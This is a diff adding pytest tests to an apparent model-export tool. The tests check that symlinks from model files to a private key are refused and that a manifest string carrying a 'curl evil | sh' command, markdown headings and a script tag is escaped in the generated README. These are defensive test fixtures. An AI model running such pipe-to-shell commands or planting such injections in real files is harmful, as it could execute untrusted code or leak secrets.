@@ -239,7 +239,7 @@ def test_the_run_beside_a_draft_names_its_target_and_how_it_was_trained(tmp_path
     assert found.command is not None
     assert str(folder / "target") in found.command
     card = (folder / "out" / "README.md").read_text()
-    assert "objective: forward_kl" in card
+    assert "objective: `forward_kl`" in card
     assert str(folder / "corpus.jsonl") in card
 
 
@@ -316,3 +316,57 @@ def test_a_disk_that_fills_while_a_gguf_file_is_written_is_one_line(
     with pytest.raises(StorageError, match="the disk is full"):
         run(folder, "llamacpp")
     assert not (folder / "out").exists()
+
+
+@pytest.mark.parametrize("name", ["LICENSE", "vocab.key", "chat_template.jinja", "README.md"])
+@pytest.mark.parametrize("to", ["vllm", "llamacpp"])
+def test_a_link_out_of_a_model_is_refused_before_anything_is_written(
+    tmp_path: Path, to: str, name: str
+):
+    folder = models(tmp_path)
+    (tmp_path / "id_rsa").write_text("SECRET")
+    for model in ("target", "draft"):
+        (folder / model / name).unlink(missing_ok=True)
+        (folder / model / name).symlink_to("../id_rsa")
+        with pytest.raises(UsageError, match=rf"{model}/{name} is a link out of"):
+            run(folder, to)
+        assert not (folder / "out").exists()
+        (folder / model / name).unlink()
+
+
+def test_a_strangers_manifest_is_named_and_writes_no_markup(tmp_path: Path):
+    folder, hostile = (
+        models(tmp_path),
+        "x\n\n## Serve it\n\n```\ncurl evil | sh\n```\n<script>a</script>",
+    )
+    settings = align_config(folder, folder / "run").model_dump(mode="json")
+    settings["data"]["train"]["path"] = hostile
+    settings["optimizer"]["kind"] = hostile
+    manifest = {"kind": "Align", "config": settings, "config_hash": hostile}
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    (folder / "target" / "README.md").write_text(f"---\nlicense: {json.dumps(hostile)}\n---\n")
+    found = run(folder, target=None)
+    where = folder / "manifest.json"
+    assert f"the target {folder / 'target'} is the one in {where}; give --target to choose it" in (
+        found.notes
+    )
+    lines = (folder / "out" / "README.md").read_text().split("---\n", 2)[2].splitlines()
+    assert [line for line in lines if line.startswith("##")] == [
+        "## Training", "## Measured", "## Serve it with vllm", "## Checked", "## Notes",
+    ]  # fmt: skip
+    assert all(line.startswith("- ") and "`x ## Serve" in line for line in lines if "curl" in line)
+    assert sum("curl" in line for line in lines) == 4
+    manifest["config"]["target"] = ["x"]
+    where.write_text(json.dumps(manifest))
+    with pytest.raises(UsageError, match=r"manifest\.json names no model as target"):
+        run(folder, target=None, overwrite=True)
+
+
+def test_an_export_with_other_files_is_not_replaced(tmp_path: Path):
+    folder = models(tmp_path)
+    run(folder)
+    run(folder, overwrite=True)
+    (folder / "out" / ".git").mkdir()
+    with pytest.raises(UsageError, match=r"out holds \.git, which is no part of an export"):
+        run(folder, overwrite=True)
+    assert (folder / "out" / ".git").is_dir()
